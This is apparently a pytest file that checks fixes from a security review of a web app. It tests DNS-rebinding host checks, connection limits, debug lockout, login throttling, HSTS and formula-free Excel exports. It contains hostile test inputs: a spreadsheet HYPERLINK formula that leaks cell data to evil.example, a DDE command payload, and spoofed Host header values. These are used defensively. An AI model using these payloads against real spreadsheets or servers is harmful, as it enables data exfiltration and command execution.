"""Issue 15 (security review): host allow-list, idle connections, debug server, malformed callbacks, sign-in
throttling, HSTS, password normalisation and formula-free exports. Each test failed before its fix."""

from __future__ import annotations

import dataclasses
import io
import ipaddress
import json
import logging
import socket
import threading
import time
import urllib.request
import zipfile
from pathlib import Path

import polars as pl
import pytest

from app.web.auth_config import AuthConfigError, AuthSettings, resolve_auth
from etl.stores.users import add_user, authenticate
from etl.config import load_config
from tests.app.conftest import app_config

HTML = {"Accept": "text/html"}
ORIGIN = {"Origin": "http://localhost"}
PASSWORD = "correct horse 马"
EVIL = "rebind.evil.example:8050"  # what a DNS-rebinding page's requests carry as Host and Origin
CALLBACK = {"output": "x.children", "outputs": {"id": "x", "property": "children"}, "inputs": [], "state": []}


def _resolve(host: str, db: Path, env: dict[str, str]) -> AuthSettings:
    """Sign-in settings as `govindex serve` resolves them for host:8050, from the one Config."""
    return resolve_auth(load_config(env=env, overrides={"host": host, "port": 8050, "db": str(db)}))


def _app(fixture_db: Path, weights_dir: Path, settings: AuthSettings):
    from app.server import create_app

    return create_app(app_config(fixture_db, weights_dir, rank_samples=0), auth=settings)


@pytest.fixture()
def users_file(tmp_path: Path) -> Path:
    path = tmp_path / "users.toml"
    add_user(path, "ana", "assessor", PASSWORD)
    return path


def _csrf(client) -> str:
    import re

    page = client.get("/login", headers=HTML).get_data(as_text=True)
    m = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert m
    return m.group(1)


def _login(client, name: str, password: str, headers: dict | None = None, **kw):
    token = _csrf(client)
    return client.post("/login", data={"username": name, "password": password, "csrf_token": token, "next": "/"},
                       headers=headers or ORIGIN, **kw)


# -- finding 1: demo mode answers only to its own names ------------------------------------------------------------
def test_a_rebinding_host_gets_no_demo_session_no_data_and_no_writes(fixture_db: Path, weights_dir: Path) -> None:
    settings = _resolve("127.0.0.1", fixture_db, {})
    assert settings.mode == "demo" and "127.0.0.1:8050" in settings.allowed_hosts
    client = _app(fixture_db, weights_dir, settings).server.test_client()
    r = client.get("/", headers={**HTML, "Host": EVIL})
    assert r.status_code == 421 and not r.headers.getlist("Set-Cookie")  # no admin session handed out
    r = client.get("/download/quarantine.csv", headers={"Host": EVIL})
    assert r.status_code == 421 and "case_310115" not in r.get_data(as_text=True)
    r = client.post("/_dash-update-component", json=CALLBACK, headers={"Host": EVIL, "Origin": f"http://{EVIL}"})
    assert r.status_code == 421
    assert client.get("/", headers={**HTML, "Host": "127.0.0.1:9999"}).status_code == 421  # not our port
    # our own names on the bound port are served
    ok = client.get("/download/quarantine.csv", headers={"Host": "127.0.0.1:8050"})
    assert ok.status_code == 200 and "case_310115" in ok.get_data(as_text=True)
    assert client.get("/", headers={**HTML, "Host": "localhost:8050"}).status_code == 200
    # the origin a write must come from is ours by configuration, not whatever the request names as its Host
    r = client.post("/_dash-update-component", json=CALLBACK,
                    headers={"Host": "127.0.0.1:8050", "Origin": f"http://{EVIL}"})
    assert r.status_code == 403


def test_public_hosts_come_from_the_configured_origins(fixture_db: Path, weights_dir: Path, users_file: Path) -> None:
    env = {"GOVINDEX_USERS": str(users_file)}
    with pytest.raises(AuthConfigError, match="GOVINDEX_ALLOWED_ORIGINS"):  # 0.0.0.0 names no host at all
        _resolve("0.0.0.0", fixture_db, env)
    assert _resolve("10.0.0.5", fixture_db, env).allowed_hosts == ("10.0.0.5:8050",)
    settings = _resolve("0.0.0.0", fixture_db, {**env, "GOVINDEX_ALLOWED_ORIGINS": "https://GovIndex.example.gov.cn"})
    assert settings.allowed_hosts == ("govindex.example.gov.cn",)
    client = _app(fixture_db, weights_dir, settings).server.test_client()
    public = {"Host": "govindex.example.gov.cn"}
    assert client.get("/login", headers={**HTML, **public}, base_url="https://govindex.example.gov.cn").status_code == 200
    assert client.get("/login", headers={**HTML, "Host": "10.0.0.9:8050"}).status_code == 421
    assert client.get("/healthz", headers={"Host": "10.0.0.9:8050"}).status_code == 200  # probes use any name


# -- finding 4: idle connections do not stop the server ------------------------------------------------------------
def test_idle_connections_do_not_stop_the_server() -> None:
    """150 idle sockets (waitress's default limit is 100) and a real request still gets its answer. Loopback only,
    bounded (150 sockets, 10 s), and the server is stopped at the end."""
    import flask
    from waitress.server import create_server

    from app.server import waitress_options
    from etl.config import ServerConfig

    wsgi = flask.Flask("idle")
    wsgi.add_url_rule("/ping", "ping", lambda: "pong")
    server = create_server(wsgi, host="127.0.0.1", port=0, **waitress_options(ServerConfig.model_validate({}), 2))
    port = int(server.effective_port)  # type: ignore[union-attr]
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    idle: list[socket.socket] = []
    try:
        for _ in range(150):
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"GET /ping HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # half a request, never finished
            idle.append(s)
        time.sleep(0.5)  # let the server take them all
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/ping", timeout=10) as resp:
            assert resp.read() == b"pong"
    finally:
        for s in idle:
            s.close()
        server.close()
        thread.join(timeout=5)


def test_connection_settings_come_from_configuration() -> None:
    from app.server import waitress_options
    from etl.config import ConfigError, load_config

    cfg = load_config(env={"GOVINDEX_CONNECTION_LIMIT": "300", "GOVINDEX_CHANNEL_TIMEOUT": "15"})
    opts = waitress_options(cfg.server)
    assert opts["connection_limit"] == 300 and opts["channel_timeout"] == 15 and opts["asyncore_use_poll"]
    with pytest.raises(ConfigError, match="GOVINDEX_CHANNEL_TIMEOUT"):
        load_config(env={"GOVINDEX_CHANNEL_TIMEOUT": "0"})


# -- finding 5 -----------------------------------------------------------------------------------------------------
def test_only_the_favicon_itself_is_public(fixture_db: Path, weights_dir: Path, users_file: Path) -> None:
    client = _app(fixture_db, weights_dir, AuthSettings(mode="users", users_file=users_file)).server.test_client()
    r = client.get("/_favicon.icox", headers=HTML)
    assert r.status_code == 302 and "/login" in r.headers["Location"]  # no page shell for anonymous users
    assert client.get("/_favicon.ico").status_code == 200


def test_debug_is_loopback_only_and_never_opens_the_werkzeug_console(monkeypatch: pytest.MonkeyPatch,
                                                                    fixture_db: Path, weights_dir: Path,
                                                                    users_file: Path) -> None:
    import dash
    from click.testing import CliRunner

    from app import server
    from app.cli.serve import serve
    from app.state import AppContext

    env = {"GOVINDEX_USERS": str(users_file), "GOVINDEX_ALLOWED_ORIGINS": "https://govindex.example.gov.cn"}
    out = CliRunner().invoke(serve, ["--debug", "--host", "0.0.0.0", "--db", str(fixture_db), "--no-scheduler"],
                             env=env)
    assert out.exit_code != 0 and "refusing --debug on 0.0.0.0" in out.output
    with pytest.raises(AuthConfigError, match="refusing --debug"):
        server.run(app_config(fixture_db, weights_dir, host="0.0.0.0"), debug=True)
    seen: dict = {}
    monkeypatch.setattr(dash.Dash, "run", lambda self, **kw: seen.update(kw))
    monkeypatch.setattr(AppContext, "warm", lambda self: None)
    server.run(app_config(fixture_db, weights_dir, host="127.0.0.1", port=8051), debug=True,
               auth=AuthSettings(mode="demo"))
    assert seen["debug"] is True and seen["use_debugger"] is False


@pytest.mark.parametrize("body", [{}, [], "text", {"output": 1}, {"output": "x.children", "inputs": []},
                                  {**CALLBACK, "inputs": "x"}, {**CALLBACK, "inputs": [1]},
                                  {**CALLBACK, "state": [{"id": "x"}]}, {**CALLBACK, "changedPropIds": [1]}])
def test_malformed_callback_bodies_are_400_without_a_traceback(fixture_db: Path, weights_dir: Path, body: object,
                                                               caplog: pytest.LogCaptureFixture) -> None:
    client = _app(fixture_db, weights_dir, AuthSettings(mode="demo")).server.test_client()
    client.get("/", headers=HTML)
    with caplog.at_level(logging.ERROR):
        r = client.post("/_dash-update-component", json=body, headers=ORIGIN)
    assert r.status_code == 400, r.get_data(as_text=True)[:300]
    assert not [rec for rec in caplog.records if rec.exc_info]


def test_sign_in_throttle_per_address_across_names(fixture_db: Path, weights_dir: Path, users_file: Path) -> None:
    settings = AuthSettings(mode="users", users_file=users_file, login_attempts=5, address_attempts=3)
    client = _app(fixture_db, weights_dir, settings).server.test_client()
    codes = [_login(client, f"guess{k}", "bad password").status_code for k in range(4)]
    assert codes == [401, 401, 401, 429]  # a different name each time no longer escapes the pause
    assert _login(client, "ana", PASSWORD).status_code == 429


def test_behind_a_trusted_proxy_one_client_cannot_lock_a_user_out(fixture_db: Path, weights_dir: Path,
                                                                  users_file: Path) -> None:
    settings = AuthSettings(mode="users", users_file=users_file, login_attempts=2,
                            trusted_proxies=(ipaddress.ip_network("10.0.0.1/32"),))
    client = _app(fixture_db, weights_dir, settings).server.test_client()
    proxy = {"REMOTE_ADDR": "10.0.0.1"}

    def via(addr: str, password: str) -> int:
        return _login(client, "ana", password, environ_base=proxy,
                      headers={**ORIGIN, "X-Forwarded-For": addr}).status_code

    assert [via("203.0.113.5", "bad password") for _ in range(3)] == [401, 401, 429]
    assert via("198.51.100.7", PASSWORD) == 302  # another person behind the same proxy signs in
    # a client that is not a trusted proxy cannot pick its address with the header
    direct = [_login(client, "ana", "bad password", headers={**ORIGIN, "X-Forwarded-For": f"192.0.2.{k}"}).status_code
              for k in range(3)]
    assert direct == [401, 401, 429]


def test_hsts_when_cookies_are_secure(fixture_db: Path, weights_dir: Path) -> None:
    secure = _app(fixture_db, weights_dir, AuthSettings(mode="demo", secure_cookies=True)).server.test_client()
    assert secure.get("/healthz").headers["Strict-Transport-Security"].startswith("max-age=31536000")
    plain = _app(fixture_db, weights_dir, AuthSettings(mode="demo")).server.test_client()
    assert "Strict-Transport-Security" not in plain.get("/healthz").headers


def test_passwords_are_nfkc_normalised(tmp_path: Path) -> None:
    path = tmp_path / "users.toml"
    add_user(path, "wang", "leader", "ｍｙ　ｐａｓｓ１２３")  # full-width, as a Chinese IME may type it
    assert authenticate(path, "wang", "my pass123") is not None
    assert authenticate(path, "wang", "ｍｙ　ｐａｓｓ１２３") is not None
    assert authenticate(path, "wang", "my pass124") is None


# -- finding 2: no live formulas in the district workbook -----------------------------------------------------------
def test_scorecard_xlsx_writes_text_never_formulas(ctx) -> None:
    from app.ui.exports import scorecard_xlsx
    from app.views import frames as views

    dp = views.district_profile(ctx, "310115", None, "zh")
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    q = dp.quarantine.with_columns(pl.lit(evil).alias("value"))
    data = scorecard_xlsx(dataclasses.replace(dp, name="=cmd|' /C calc'!A0", quarantine=q), "zh")
    z = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 5  # cover (评分卡), dimensions, indicators, priorities, quarantined rows
    for name in sheets:
        assert b"<f>" not in z.read(name), name  # no formula cell anywhere
    strings = z.read("xl/sharedStrings.xml").decode("utf-8")
    assert '=HYPERLINK("http://evil.example' in strings and "=cmd|" in strings  # kept, as text
    assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode("utf-8")  # and stays text when edited
    back = pl.read_excel(io.BytesIO(data), sheet_id=0)
    assert back["隔离记录"]["问题值"].to_list()[0] == evil


# -- finding 3: the history page and its export warn about a tampered trail -----------------------------------------
def test_history_page_and_export_warn_about_a_tampered_trail(fixture_db: Path, weights_dir: Path) -> None:
    from etl.stores.audit_trail import audit_path
    from etl.stores.profiles import load_profile, save_profile
    from tests.app.web.test_roles import _call

    p = load_profile("user-centred", weights_dir)
    for k in range(2):
        p = save_profile(p.with_weights({"supply": 0.3 + 0.05 * k, "demand": 0.7 - 0.05 * k}), weights_dir, who="ana")
    client = _app(fixture_db, weights_dir, AuthSettings(mode="demo")).server.test_client()
    client.get("/", headers=HTML)

    def shown() -> str:
        r = _call(client, [("hist-versions", "children"), ("hist-trail", "children"), ("hist-pub-version", "options"),
                           ("hist-pub-version", "value"), ("hist-export", "href")],
                  [("hist-profile", "value", "user-centred"), ("hist-refreshed", "data", 0)],
                  [("hist-lang", "data", "zh")])
        assert r.status_code == 200, r.get_data(as_text=True)[:300]
        return json.dumps(r.get_json(), ensure_ascii=False)

    assert "审计记录校验失败" not in shown()
    path = audit_path(weights_dir)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2
    path.write_text(lines[0] + "\n", encoding="utf-8")  # the last line deleted: the chain alone stays valid
    assert "警告：审计记录校验失败" in shown()
    csv_text = client.get("/download/audit.csv?profile=user-centred").get_data(as_text=True)
    assert csv_text.lstrip('\ufeff"').startswith("警告：审计记录校验失败") and "the audit trail fails its check" in csv_text


def test_host_tricks_are_refused(fixture_db: Path, weights_dir: Path) -> None:
    client = _app(fixture_db, weights_dir, _resolve("127.0.0.1", fixture_db, {})).server.test_client()
    for host in ("evil.example@127.0.0.1:8050", "127.0.0.1:8050/x", "127.0.0.1:80500", "127.0.0.1.evil.example:8050",
                 "localhost.:8050 ", ""):
        assert client.get("/", headers={**HTML, "Host": host}).status_code in (400, 421), host
